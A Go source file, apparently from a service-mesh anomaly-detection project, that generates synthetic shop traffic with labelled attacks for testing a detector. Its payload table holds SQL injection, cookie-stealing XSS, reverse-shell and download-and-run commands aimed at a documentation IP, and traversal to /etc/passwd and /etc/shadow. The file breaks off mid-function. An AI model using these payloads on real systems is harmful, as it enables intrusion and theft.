package gen

import (
	"errors"
	"fmt"
	"math"
	"math/rand/v2"
	"net/url"
	"sort"
	"strings"
	"time"

	"github.com/meshward/meshward/models"
	"github.com/meshward/meshward/replay/source"
)

// The closed-vocabulary application: one web application behind the mesh's
// ingress, whose routes each take a fixed set of parameters (identifiers,
// numbers, enumerated choices, free text: names, addresses, messages,
// searches), visited by browsers. It is the structural case of anomaly
// detection, on data meshward owns: a workload's route set and each route's
// parameter names are nearly closed vocabularies, and an attack may change
// nothing but structure (a renamed or added parameter, a backup-file probe
// after a known path, an enumerated field given a value it never takes)
// while free-text fields legitimately bring character sequences never seen
// before. Classic injections, oversized values and a padded body complete
// the attacks. Everything is drawn from the seed: routes, names, values.

// AppConfig is everything the application's traffic takes. Defaults in
// DefaultAppConfig.
type AppConfig struct {
	Seed uint64
	// Start is when the traffic begins; Duration how long it lasts.
	Start    time.Time
	Duration time.Duration
	// Requests is the number of normal requests, Attacks of attacks.
	Requests, Attacks int
	// AttackAt is the share of Duration after which attacks begin.
	AttackAt float64
	// Workload is the application's destination name; Source the caller
	// every request comes through (the mesh's ingress gateway).
	Workload, Source string
}

// DefaultAppConfig returns the defaults, in one place.
func DefaultAppConfig() AppConfig {
	return AppConfig{
		Seed:     1,
		Start:    time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC),
		Duration: 48 * time.Hour,
		Requests: 40_000,
		Attacks:  4_000,
		AttackAt: 0.8,
		Workload: "webapp.shop",
		Source:   "spiffe://cluster.local/ns/istio-system/sa/istio-ingressgateway",
	}
}

// Validate reports every problem with the configuration.
func (c AppConfig) Validate() error {
	errs := trafficErrors(c.Duration, c.Requests, c.AttackAt)
	if c.Attacks < 0 || c.Attacks > c.Requests {
		errs = append(errs, fmt.Errorf("attacks: %d is not in [0, requests]", c.Attacks))
	}
	if c.Workload == "" || c.Source == "" {
		errs = append(errs, errors.New("workload and source must be set"))
	}
	return errors.Join(errs...)
}

// fieldKind is what a parameter's values are.
type fieldKind int

const (
	kEnum fieldKind = iota
	kInt
	kFlag
	kCode
	kToken
	kEmail
	kFirst
	kLast
	kFullName
	kAddress
	kCity
	kZip
	kPhone
	kPassword
	kText
	kQuery
	kDate
	kAmount
	kCard
	kUser
	kPath
)

// field is one parameter of a route.
type field struct {
	name string
	kind fieldKind
	enum []string // kEnum's values; kPath's known paths
	lo   int      // kInt's range, kText's sentences
	hi   int
	// optional fields are sent by some requests only (an unchecked box, a
	// filter left empty).
	optional float64
}

// appRoute is one route of the application.
type appRoute struct {
	method string
	path   string // "{id}" stands for a number
	query  []field
	form   []field
	weight float64
	accept string
}

// App generates the application's traffic.
type App struct {
	cfg    AppConfig
	rng    *rand.Rand
	host   string
	routes []appRoute
	cum    []float64
	// names holds every parameter name of the application.
	names []string
}

// NewApp returns a generator of the application drawn from cfg.Seed, or
// the configuration's problems.
func NewApp(cfg AppConfig) (*App, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	a := &App{cfg: cfg, rng: rand.New(rand.NewPCG(cfg.Seed, cfg.Seed^0xa991))}
	a.build()
	return a, nil
}

// Vocabulary the application is drawn from: generic web-application words,
// written for this generator.
var (
	appExts     = []string{".php", ".jsp", ".aspx", ".html", ""}
	appSections = []string{"shop", "store", "catalog", "account", "blog", "news", "support", "forum", "members", "events", "library", "travel"}
	appPages    = []string{"index", "home", "about", "terms", "privacy", "faq", "help", "contact", "offers", "sitemap"}
	appNouns    = []string{"product", "item", "article", "post", "event", "book", "trip", "ticket", "course", "listing"}
	appEnums    = [][]string{
		{"asc", "desc"}, {"price", "name", "date", "rating", "popularity"}, {"en", "es", "fr", "de", "it", "pt"},
		{"S", "M", "L", "XL", "XXL"}, {"red", "blue", "green", "black", "white", "grey", "navy"},
		{"standard", "express", "pickup"}, {"visa", "mastercard", "amex", "paypal"},
		{"general", "billing", "technical", "returns", "press"}, {"1", "2", "3", "4", "5"},
		{"books", "music", "garden", "kitchen", "toys", "sports", "outdoor", "computers", "fashion", "beauty", "travel", "home"},
		{"mr", "mrs", "ms", "dr"}, {"EUR", "USD", "GBP"}, {"grid", "list"}, {"10", "20", "50", "100"},
		{"ES", "FR", "DE", "IT", "PT", "GB", "US", "NL", "BE", "IE"},
	}
	appFirst  = []string{"Anna", "Ben", "Carla", "David", "Elif", "Femi", "Gustavo", "Hana", "Ivo", "Jun", "Karim", "Lucía", "María", "Noah", "Olga", "Pedro", "Zoë", "Søren", "Chloé", "José", "Ngozi", "Wei", "Aoife", "Mateusz", "Jean-Luc", "Mary Ann"}
	appLast   = []string{"Smith", "Okafor", "Müller", "Rossi", "García", "Nguyen", "Kowalski", "Sato", "O'Brien", "Fernández", "Dubois", "Jensen", "van der Berg", "Papadopoulos", "Silva", "Öztürk", "D'Angelo", "Ní Bhriain", "Li", "Martínez-López"}
	appStreet = []string{"High", "Church", "Mill", "Station", "Victoria", "Green", "Park", "Oak", "Maple", "Cedar", "Lake", "Hill", "Mayor", "Real", "San Juan", "Rosales"}
	appSType  = []string{"Street", "Road", "Avenue", "Lane", "Way", "Close", "Calle", "Plaza", "Paseo"}
	appCities = []string{"Madrid", "Sevilla", "London", "Manchester", "Paris", "Lyon", "Berlin", "München", "Roma", "Lisboa", "Dublin", "Amsterdam", "Zürich", "Kraków", "A Coruña", "Saint-Étienne"}
	appDomain = []string{"example.com", "mail.example", "example.org", "example.net", "post.example"}
	appWords  = strings.Fields(`the a an and or but of to in on for with from at by about as is was it this that these
		good great nice bad poor fine quick slow easy hard small large light heavy new old cheap expensive
		product order delivery service price quality size colour color fit box parcel item shop store staff
		arrived late early broken perfect works recommend again would will not never always really very too
		love like hate need want buy bought return returned refund exchange size smaller bigger week day
		please thanks thank you help question problem issue account password login email address card payment
		my your our their i we they he she me us them can could should must may might have had has do did
		one two three four five ten first second last next time times year month morning evening today
		size fits true wear wash washed soft warm cold water rain summer winter holiday gift present birthday`)
	appPunct = []string{".", ".", ".", "!", "?", ",", ""}
)

// build draws the application: its routes, their parameters and how often
// each is visited (Zipf-like: a few pages take most traffic, some are rare).
func (a *App) build() {
	g := a.rng
	a.host = "www." + appDomain[g.IntN(len(appDomain))]
	ext := appExts[g.IntN(len(appExts))]
	perm := g.Perm(len(appSections))
	secs := make([]string, 4+g.IntN(3))
	for i := range secs {
		secs[i] = appSections[perm[i]]
	}
	enum := func() []string { return appEnums[g.IntN(len(appEnums))] }
	page := func(sec, name string) string {
		if ext == "" {
			return "/" + sec + "/" + name
		}
		return "/" + sec + "/" + name + ext
	}
	add := func(r appRoute) {
		if r.accept == "" {
			r.accept = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
		}
		a.routes = append(a.routes, r)
	}
	// Landing pages and static assets: no parameters.
	add(appRoute{method: "GET", path: "/", weight: 8})
	for _, p := range appPages[:3+g.IntN(5)] {
		add(appRoute{method: "GET", path: page(secs[0], p), weight: 1})
	}
	for _, f := range []string{"css/site.css", "css/print.css", "js/app.js", "js/vendor.js", "img/logo.png", "img/banner.jpg", "favicon.ico"} {
		add(appRoute{method: "GET", path: "/static/" + f, weight: 3, accept: "*/*"})
	}
	for i, sec := range secs {
		noun := appNouns[(perm[i]+i)%len(appNouns)]
		// A listing with enumerated filters and paging.
		add(appRoute{method: "GET", path: page(sec, "list"), weight: 4, query: []field{
			{name: "category", kind: kEnum, enum: appEnums[9]},
			{name: "page", kind: kInt, lo: 1, hi: 40, optional: 0.4},
			{name: "sort", kind: kEnum, enum: enum(), optional: 0.3},
			{name: "view", kind: kEnum, enum: appEnums[12], optional: 0.2},
		}})
		// An item by id, in the query or in the path.
		if ext == "" {
			add(appRoute{method: "GET", path: "/" + sec + "/" + noun + "s/{id}", weight: 5})
		} else {
			add(appRoute{method: "GET", path: page(sec, noun), weight: 5, query: []field{{name: noun + "_id", kind: kInt, lo: 1, hi: 99999}}})
		}
		// A search with free text.
		add(appRoute{method: "GET", path: page(sec, "search"), weight: 2, query: []field{
			{name: "q", kind: kQuery}, {name: "lang", kind: kEnum, enum: appEnums[2], optional: 0.5},
		}})
		// Forms.
		switch i % 4 {
		case 0:
			add(appRoute{method: "POST", path: page(sec, "cart"), weight: 1.5, form: []field{
				{name: "id", kind: kInt, lo: 1, hi: 99999}, {name: "qty", kind: kInt, lo: 1, hi: 9},
				{name: "size", kind: kEnum, enum: appEnums[3], optional: 0.6}, {name: "colour", kind: kEnum, enum: appEnums[4], optional: 0.6},
				{name: "csrf", kind: kToken},
			}})
			add(appRoute{method: "POST", path: page(sec, "checkout"), weight: 0.5, form: []field{
				{name: "title", kind: kEnum, enum: appEnums[10]}, {name: "firstname", kind: kFirst}, {name: "lastname", kind: kLast},
				{name: "email", kind: kEmail}, {name: "phone", kind: kPhone}, {name: "address", kind: kAddress}, {name: "city", kind: kCity},
				{name: "zip", kind: kZip}, {name: "country", kind: kEnum, enum: appEnums[14]}, {name: "shipping", kind: kEnum, enum: appEnums[5]},
				{name: "payment", kind: kEnum, enum: appEnums[6]}, {name: "cardholder", kind: kFullName}, {name: "cardnumber", kind: kCard},
				{name: "expiry", kind: kCode, lo: 1}, {name: "total", kind: kAmount}, {name: "csrf", kind: kToken},
			}})
		case 1:
			add(appRoute{method: "POST", path: page(sec, "login"), weight: 1, form: []field{
				{name: "username", kind: kUser}, {name: "password", kind: kPassword}, {name: "remember", kind: kFlag, optional: 0.5},
				{name: "next", kind: kPath, optional: 0.4}, {name: "csrf", kind: kToken},
			}})
			add(appRoute{method: "POST", path: page(sec, "register"), weight: 0.3, form: []field{
				{name: "username", kind: kUser}, {name: "email", kind: kEmail}, {name: "password", kind: kPassword}, {name: "password2", kind: kPassword},
				{name: "first_name", kind: kFirst}, {name: "last_name", kind: kLast}, {name: "birthdate", kind: kDate, optional: 0.7},
				{name: "newsletter", kind: kFlag, optional: 0.4}, {name: "csrf", kind: kToken},
			}})
		case 2:
			add(appRoute{method: "POST", path: page(sec, "review"), weight: 0.6, form: []field{
				{name: noun + "_id", kind: kInt, lo: 1, hi: 99999}, {name: "rating", kind: kEnum, enum: appEnums[8]},
				{name: "title", kind: kText, lo: 1, hi: 1}, {name: "comment", kind: kText, lo: 1, hi: 6},
				{name: "author", kind: kFullName, optional: 0.8}, {name: "csrf", kind: kToken},
			}})
		case 3:
			add(appRoute{method: "POST", path: page(sec, "contact"), weight: 0.4, form: []field{
				{name: "name", kind: kFullName}, {name: "email", kind: kEmail}, {name: "subject", kind: kEnum, enum: appEnums[7]},
				{name: "order", kind: kCode, optional: 0.5}, {name: "message", kind: kText, lo: 1, hi: 8}, {name: "csrf", kind: kToken},
			}})
		}
		// A profile page of the signed-in member.
		if i == 1 {
			add(appRoute{method: "GET", path: page(sec, "profile"), weight: 1, query: []field{{name: "uid", kind: kInt, lo: 1000, hi: 9999}, {name: "tab", kind: kEnum, enum: []string{"orders", "settings", "wishlist", "addresses"}, optional: 0.5}}})
			add(appRoute{method: "POST", path: page(sec, "settings"), weight: 0.2, form: []field{
				{name: "display_name", kind: kFullName}, {name: "email", kind: kEmail}, {name: "language", kind: kEnum, enum: appEnums[2]},
				{name: "currency", kind: kEnum, enum: appEnums[11]}, {name: "bio", kind: kText, lo: 0, hi: 3, optional: 0.5}, {name: "csrf", kind: kToken},
			}})
		}
	}
	// A rare administrative report, so that rare but normal routes exist.
	add(appRoute{method: "GET", path: page(secs[len(secs)-1], "report"), weight: 0.05, query: []field{
		{name: "from", kind: kDate}, {name: "to", kind: kDate}, {name: "format", kind: kEnum, enum: []string{"csv", "pdf", "html"}},
	}})
	var known []string
	for _, r := range a.routes {
		if r.method == "GET" && r.query == nil && !strings.Contains(r.path, "{id}") && !strings.HasPrefix(r.path, "/static/") {
			known = append(known, r.path)
		}
	}
	seen := map[string]bool{}
	total := 0.0
	for i := range a.routes {
		r := &a.routes[i]
		for _, fs := range [][]field{r.query, r.form} {
			for j := range fs {
				if fs[j].kind == kPath {
					fs[j].enum = known
				}
				if !seen[fs[j].name] {
					seen[fs[j].name] = true
					a.names = append(a.names, fs[j].name)
				}
			}
		}
		total += r.weight
		a.cum = append(a.cum, total)
	}
	sort.Strings(a.names)
}

// value draws one value of a field.
func (a *App) value(f *field) string {
	g := a.rng
	pick := func(xs []string) string { return xs[g.IntN(len(xs))] }
	switch f.kind {
	case kEnum, kPath:
		return pick(f.enum)
	case kInt:
		return fmt.Sprint(f.lo + g.IntN(f.hi-f.lo+1))
	case kFlag:
		return "on"
	case kCode:
		if f.lo == 1 { // an expiry date
			return fmt.Sprintf("%02d/%02d", 1+g.IntN(12), 26+g.IntN(6))
		}
		return fmt.Sprintf("%c%c-%04d", 'A'+g.IntN(26), 'A'+g.IntN(26), g.IntN(10000))
	case kToken:
		return fmt.Sprintf("%016x%016x", g.Uint64(), g.Uint64())
	case kEmail:
		sep := pick([]string{".", "_", "", "."})
		local := strings.ToLower(ascii(pick(appFirst)) + sep + ascii(pick(appLast)))
		if g.IntN(3) == 0 {
			local += fmt.Sprint(g.IntN(100))
		}
		if g.IntN(20) == 0 {
			local += "+shop"
		}
		return local + "@" + pick(appDomain)
	case kFirst:
		return pick(appFirst)
	case kLast:
		return pick(appLast)
	case kFullName:
		return pick(appFirst) + " " + pick(appLast)
	case kAddress:
		s := fmt.Sprintf("%d %s %s", 1+g.IntN(250), pick(appStreet), pick(appSType))
		switch g.IntN(6) {
		case 0:
			s += fmt.Sprintf(", Apt %d%c", 1+g.IntN(30), 'A'+g.IntN(4))
		case 1:
			s = fmt.Sprintf("Flat %d, ", 1+g.IntN(12)) + s
		}
		return s
	case kCity:
		return pick(appCities)
	case kZip:
		if g.IntN(4) == 0 {
			return fmt.Sprintf("%c%c%d %d%c%c", 'A'+g.IntN(26), 'A'+g.IntN(26), 1+g.IntN(9), g.IntN(10), 'A'+g.IntN(26), 'A'+g.IntN(26))
		}
		return fmt.Sprintf("%05d", g.IntN(100000))
	case kPhone:
		switch g.IntN(3) {
		case 0:
			return fmt.Sprintf("+%d %d %04d %04d", 30+g.IntN(20), 10+g.IntN(90), g.IntN(10000), g.IntN(10000))
		case 1:
			return fmt.Sprintf("(%03d) %03d-%04d", 200+g.IntN(800), g.IntN(1000), g.IntN(10000))
		}
		return fmt.Sprintf("6%08d", g.IntN(100000000))
	case kPassword:
		const alnum = "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
		const sym = "!@#$%&*?-_."
		n := 8 + g.IntN(7)
		b := make([]byte, n)
		for i := range b {
			b[i] = alnum[g.IntN(len(alnum))]
		}
		if g.IntN(2) == 0 {
			b[g.IntN(n)] = sym[g.IntN(len(sym))]
		}
		return string(b)
	case kText:
		n := f.lo + g.IntN(f.hi-f.lo+1)
		if f.lo == 1 && f.hi == 1 { // a title: a few words
			return a.sentence(2+g.IntN(5), false)
		}
		var b strings.Builder
		for i := 0; i < n; i++ {
			if i > 0 {
				b.WriteByte(' ')
			}
			b.WriteString(a.sentence(4+g.IntN(14), true))
		}
		return b.String()
	case kQuery:
		n := 1 + g.IntN(3)
		ws := make([]string, n)
		for i := range ws {
			ws[i] = appWords[g.IntN(len(appWords))]
		}
		if g.IntN(10) == 0 {
			ws[0] = strings.ToUpper(ws[0][:1]) + ws[0][1:]
		}
		return strings.Join(ws, " ")
	case kDate:
		return fmt.Sprintf("%04d-%02d-%02d", 1950+g.IntN(76), 1+g.IntN(12), 1+g.IntN(28))
	case kAmount:
		return fmt.Sprintf("%d.%02d", 1+g.IntN(900), g.IntN(100))
	case kCard:
		d := fmt.Sprintf("4%03d%04d%04d%04d", g.IntN(1000), g.IntN(10000), g.IntN(10000), g.IntN(10000))
		if g.IntN(3) == 0 {
			return d[:4] + " " + d[4:8] + " " + d[8:12] + " " + d[12:]
		}
		return d
	case kUser:
		u := strings.ToLower(ascii(pick(appFirst)))
		if g.IntN(2) == 0 {
			u += fmt.Sprint(g.IntN(1000))
		}
		return u
	}
	return ""
}

// sentence draws n words of free text, capitalised, with the odd comma,
// number or contraction, and (when end) closing punctuation.
func (a *App) sentence(n int, end bool) string {
	g := a.rng
	var b strings.Builder
	for i := 0; i < n; i++ {
		w := appWords[g.IntN(len(appWords))]
		switch g.IntN(40) {
		case 0:
			w = fmt.Sprint(1 + g.IntN(30))
		case 1:
			w = []string{"don't", "it's", "I'm", "can't", "won't", "didn't"}[g.IntN(6)]
		case 2:
			w = "(" + w + ")"
		case 3:
			w = appCities[g.IntN(len(appCities))]
		}
		if i == 0 {
			w = strings.ToUpper(w[:1]) + w[1:]
		} else {
			b.WriteByte(' ')
		}
		b.WriteString(w)
		if i < n-1 && g.IntN(12) == 0 {
			b.WriteString(",")
		}
	}
	if end {
		b.WriteString(appPunct[g.IntN(len(appPunct))])
	}
	return b.String()
}

// ascii drops the marks and spaces of a name, for user names and emails.
func ascii(s string) string {
	var b strings.Builder
	for _, r := range s {
		switch {
		case r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z':
			b.WriteRune(r)
		case r == 'á' || r == 'à':
			b.WriteByte('a')
		case r == 'é' || r == 'ë' || r == 'É':
			b.WriteByte('e')
		case r == 'í':
			b.WriteByte('i')
		case r == 'ó' || r == 'ö' || r == 'Ö' || r == 'ø':
			b.WriteByte('o')
		case r == 'ú' || r == 'ü':
			b.WriteByte('u')
		case r == 'ñ':
			b.WriteByte('n')
		}
	}
	return b.String()
}

// browser user agents and languages the application's visitors send.
var (
	appAgents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
		"Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
	}
	appLangs = []string{"en-GB,en;q=0.9", "es-ES,es;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9", "de-DE,de;q=0.9,en;q=0.5", "en-US,en;q=0.9", "pt-PT,pt;q=0.9"}
)

// route returns a route drawn by popularity.
func (a *App) route() *appRoute {
	x := a.rng.Float64() * a.cum[len(a.cum)-1]
	i := sort.SearchFloat64s(a.cum, x)
	return &a.routes[min(i, len(a.routes)-1)]
}

// pairs are a query or form's name=value pairs in order.
type pairs [][2]string

func (p pairs) encode() string {
	var b strings.Builder
	for i, kv := range p {
		if i > 0 {
			b.WriteByte('&')
		}
		b.WriteString(url.QueryEscape(kv[0]))
		b.WriteByte('=')
		b.WriteString(url.QueryEscape(kv[1]))
	}
	return b.String()
}

func (a *App) fill(fs []field) pairs {
	var p pairs
	for i := range fs {
		if fs[i].optional > 0 && a.rng.Float64() < fs[i].optional {
			continue
		}
		p = append(p, [2]string{fs[i].name, a.value(&fs[i])})
	}
	return p
}

// draft is a request being built: its route, path and pairs.
type draft struct {
	r           *appRoute
	path        string
	query, form pairs
}

func (a *App) draft(r *appRoute) *draft {
	d := &draft{r: r, path: strings.Replace(r.path, "{id}", fmt.Sprint(1+a.rng.IntN(99999)), 1)}
	d.query, d.form = a.fill(r.query), a.fill(r.form)
	return d
}

// request turns a draft into a request as a browser sends it.
func (a *App) request(d *draft) models.Request {
	g := a.rng
	req := models.Request{Method: d.r.method, Path: d.path, Query: d.query.encode(), Source: a.cfg.Source, Destination: a.cfg.Workload}
	req.Headers = []models.Header{
		{Name: "host", Value: a.host},
		{Name: "user-agent", Value: appAgents[g.IntN(len(appAgents))]},
		{Name: "accept", Value: d.r.accept},
		{Name: "accept-language", Value: appLangs[g.IntN(len(appLangs))]},
		{Name: "accept-encoding", Value: "gzip, deflate, br"},
	}
	if g.IntN(5) != 0 {
		req.Headers = append(req.Headers, models.Header{Name: "cookie", Value: fmt.Sprintf("SESSIONID=%016x%016x", g.Uint64(), g.Uint64())})
	}
	if g.IntN(3) != 0 {
		from := a.routes[g.IntN(len(a.routes))].path
		req.Headers = append(req.Headers, models.Header{Name: "referer", Value: "https://" + a.host + strings.Replace(from, "{id}", "12", 1)})
	}
	if d.r.method == "POST" {
		req.Headers = append(req.Headers, models.Header{Name: "content-type", Value: "application/x-www-form-urlencoded"},
			models.Header{Name: "origin", Value: "https://" + a.host})
		req.Body = []byte(d.form.encode())
		req.RequestBytes = int64(len(req.Body))
	}
	req.Status = 200
	switch x := g.IntN(200); {
	case x == 0:
		req.Status = 500
	case x < 3:
		req.Status = 404
	case d.r.method == "POST" && x < 40:
		req.Status = 302
	}
	req.ResponseBytes = int64(300 + g.IntN(30000))
	req.Duration = time.Duration(5+g.ExpFloat64()*40) * time.Millisecond
	return req
}

// Generate returns every record, in time order: Requests normal ones over
// the whole duration and Attacks after AttackAt.
func (a *App) Generate() []*source.Record {
	g := a.rng
	out := make([]*source.Record, 0, a.cfg.Requests+a.cfg.Attacks)
	for _, ts := range a.times(a.cfg.Requests, 0, 1) {
		out = append(out, &source.Record{TS: ts, Request: a.request(a.draft(a.route())), Label: source.LabelNormal})
	}
	for _, ts := range a.times(a.cfg.Attacks, a.cfg.AttackAt, 1) {
		kind := appAttackKinds[sort.SearchFloat64s(appAttackCum, g.Float64()*appAttackCum[len(appAttackCum)-1])]
		req := a.attack(kind)
		out = append(out, &source.Record{TS: ts, Request: req, Label: "attack", AttackType: kind.name})
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i].TS.Before(out[j].TS) })
	for i, r := range out {
		r.Pos = fmt.Sprintf("app:%d", i+1)
	}
	return out
}

// times draws n sorted times between shares from and to of the duration,
// with a daily rhythm.
func (a *App) times(n int, from, to float64) []time.Time {
	out := make([]time.Time, 0, n)
	span := float64(a.cfg.Duration)
	for len(out) < n {
		t := a.cfg.Start.Add(time.Duration((from + a.rng.Float64()*(to-from)) * span))
		h := float64(t.Hour()) + float64(t.Minute())/60
		if a.rng.Float64() < 0.3+0.7*math.Max(0, math.Sin((h-7)/24*2*math.Pi)) {
			out = append(out, t)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Before(out[j]) })
	return out
}

// appAttack is a kind of attack and how often it is drawn.
type appAttack struct {
	name   string
	weight float64
}

var appAttackKinds = []appAttack{
	{"sqli", 20}, {"xss", 14}, {"cmdi", 7}, {"path-traversal", 7}, {"crlf", 3}, {"template-injection", 4},
	{"param-rename", 10}, {"param-add", 8}, {"path-suffix", 10}, {"param-tamper", 8}, {"overflow", 4}, {"padded", 5},
}

var appAttackCum = func() []float64 {
	var c []float64
	t := 0.0
	for _, k := range appAttackKinds {
		t += k.weight
		c = append(c, t)
	}
	return c
}()

// Payloads, generic textbook forms written for this generator.
var appPayloads = map[string][]string{
	"sqli": {"' OR '1'='1", "' OR 1=1-- ", "1' AND 1=1 UNION SELECT username, password FROM users--", "1; DROP TABLE users--",
		"' UNION ALL SELECT NULL,NULL,NULL-- ", "admin'--", "1' AND SLEEP(5)#", "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
		"') OR ('a'='a", "1' ORDER BY 3--+", "'; EXEC xp_cmdshell('dir')--", "1 OR 1=1", "\" OR \"\"=\"", "1' WAITFOR DELAY '0:0:5'--",
		"x' AND extractvalue(1,concat(0x7e,version()))--", "-1 UNION SELECT 1,@@version,3"},
	"xss": {"<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
		"<iframe src=\"javascript:alert('x')\"></iframe>", "'><script>new Image().src='//x.example/?c='+document.cookie</script>",
		"<body onload=alert(1)>", "<a href=\"javas&#99;ript:alert(1)\">x</a>", "<ScRiPt>prompt(1)</sCrIpT>", "\" onmouseover=\"alert(1)"},
	"cmdi": {"; cat /etc/passwd", "| id", "`whoami`", "$(curl -s http://198.51.100.7/x | sh)", "& ping -c 3 198.51.100.7 &",
		"; nc -e /bin/sh 198.51.100.7 4444", "|| wget http://198.51.100.7/a.sh -O- | sh", "; ls -la /"},
	"path-traversal": {"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/shadow", "/etc/passwd%00",
		"..\\..\\..\\windows\\win.ini", "../../../../../proc/self/environ", "file:///etc/passwd"},
	"crlf": {"x\r\nSet-Cookie: session=attacker", "%0d%0aLocation: http://evil.example", "x\r\n\r\n<html>injected</html>"},
	"template-injection": {"{{7*7}}", "${7*7}", "${jndi:ldap://198.51.100.7/a}", "<%= 7*7 %>", "#{7*7}", "<!--#exec cmd=\"ls\" -->",
		"{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"},
}

// Generic probes for files left beside a page, and paths below one.
var (
	appSuffixes = []string{".bak", ".old", ".orig", ".save", ".swp", "~", ".tmp", ".copy", ".1", ".zip", ".tar.gz", ".txt", "_bak", "-old", ".inc", ".dist", ".backup", ".BAK"}
	appBelow    = []string{"/.git/config", "/.svn/entries", "/.DS_Store", "/.env", "/WEB-INF/web.xml", "/admin", "/test", "/debug", "/.htaccess", "/phpinfo.php"}
	appExtra    = []string{"debug", "admin", "test", "isAdmin", "role", "cmd", "exec", "file", "redirect", "callback", "_method", "XDEBUG_SESSION_START", "source", "include", "template", "lang_override"}
)

// attack draws one attack of a kind on a request a browser would send.
func (a *App) attack(kind appAttack) models.Request {
	g := a.rng
	// A route with parameters, for attacks on them.
	var d *draft
	for {
		d = a.draft(a.route())
		switch {
		case kind.name == "path-suffix":
		case kind.name == "padded" && len(d.form) == 0:
			continue
		case len(d.query)+len(d.form) == 0:
			continue
		}
		break
	}
	// One of the draft's pairs, query or form.
	pair := func() *[2]string {
		n := len(d.query) + len(d.form)
		i := g.IntN(n)
		if i < len(d.query) {
			return &d.query[i]
		}
		return &d.form[i-len(d.query)]
	}
	switch kind.name {
	case "sqli", "xss", "cmdi", "path-traversal", "crlf", "template-injection":
		ps := appPayloads[kind.name]
		p := ps[g.IntN(len(ps))]
		kv := pair()
		if g.IntN(3) == 0 {
			kv[1] += p // after a plausible value
		} else {
			kv[1] = p
		}
	case "param-rename":
		kv := pair()
		kv[0] = a.rename(kv[0])
	case "param-add":
		extra := [2]string{appExtra[g.IntN(len(appExtra))], []string{"1", "true", "yes", "on", "0", "admin"}[g.IntN(6)]}
		if g.IntN(3) == 0 {
			// A name the application has, on a route that does not take it.
			if n := a.names[g.IntN(len(a.names))]; !d.r.takes(n) {
				extra[0] = n
			}
		}
		if len(d.form) > 0 && g.IntN(2) == 0 {
			d.form = append(d.form, extra)
		} else {
			d.query = append(d.query, extra)
		}
	case "path-suffix":
		if g.IntN(3) == 0 {
			d.path += appBelow[g.IntN(len(appBelow))]
		} else {
			d.path += appSuffixes[g.IntN(len(appSuffixes))]
		}
	case "param-tamper":
		// A field with a closed domain (an enumeration, a number, a code,
		// a flag or a token) given a value outside it; free text has no
		// domain to leave.
		var kv *[2]string
		for tries := 0; tries < 20 && kv == nil; tries++ {
			c := pair()
			if f := d.r.field(c[0]); f != nil && f.closed() {
				kv = c
			}
		}
		if kv == nil {
			return a.attack(kind)
		}
		switch g.IntN(4) {
		case 0:
			kv[1] = "-" + fmt.Sprint(1+g.IntN(99))
		case 1:
			kv[1] = fmt.Sprint(g.Uint64())
		case 2:
			kv[1] = appWords[g.IntN(len(appWords))] + "x"
		default:
			kv[1] = "0x" + fmt.Sprintf("%x", g.Uint32())
		}
	case "overflow":
		kv := pair()
		kv[1] = strings.Repeat(string(rune('A'+g.IntN(26))), 1024+g.IntN(4096))
	case "padded":
		// Benign pairs of one of the route's own parameters first, the
		// payload after them, past what a prefix-reading filter reads.
		kv := &d.form[g.IntN(len(d.form))]
		pad := make(pairs, 300+g.IntN(700))
		for i := range pad {
			pad[i] = [2]string{kv[0], a.valueOf(d.r, kv[0])}
		}
		p := appPayloads["sqli"][g.IntN(len(appPayloads["sqli"]))]
		d.form = append(append(d.form, pad...), [2]string{kv[0], p})
	}
	return a.request(d)
}

// takes reports whether the route has a parameter of that name.
func (r *appRoute) takes(name string) bool { return r.field(name) != nil }

// field returns the route's parameter of that name, or nil.
func (r *appRoute) field(name string) *field {
	for _, fs := range [][]field{r.query, r.form} {
		for i := range fs {
			if fs[i].name == name {
				return &fs[i]
			}
		}
	}
	return nil
}

// closed reports whether the field's values come from a closed domain.
func (f *field) closed() bool {
	switch f.kind {
	case kEnum, kInt, kFlag, kCode, kToken, kPath:
		return true
	}
	return false
}

// valueOf draws a value of the named field of a route.
func (a *App) valueOf(r *appRoute, name string) string {
	for _, fs := range [][]field{r.query, r.form} {
		for i := range fs {
			if fs[i].name == name {
				return a.value(&fs[i])
			}
		}
	}
	return "1"
}

// rename changes a parameter's name the way typos, other frameworks and
// tampering do: a letter dropped, doubled or swapped, another case, a
// suffix, or another name of the application.
func (a *App) rename(name string) string {
	g := a.rng
	for {
		out := name
		switch g.IntN(6) {
		case 0:
			if len(name) > 2 {
				i := 1 + g.IntN(len(name)-1)
				out = name[:i] + name[i+1:]
			}
		case 1:
			i := g.IntN(len(name))
			out = name[:i+1] + name[i:]
		case 2:
			if len(name) > 2 {
				i := g.IntN(len(name) - 1)
				out = name[:i] + string(name[i+1]) + string(name[i]) + name[i+2:]
			}
		case 3:
			out = strings.ToUpper(name[:1]) + name[1:]
		case 4:
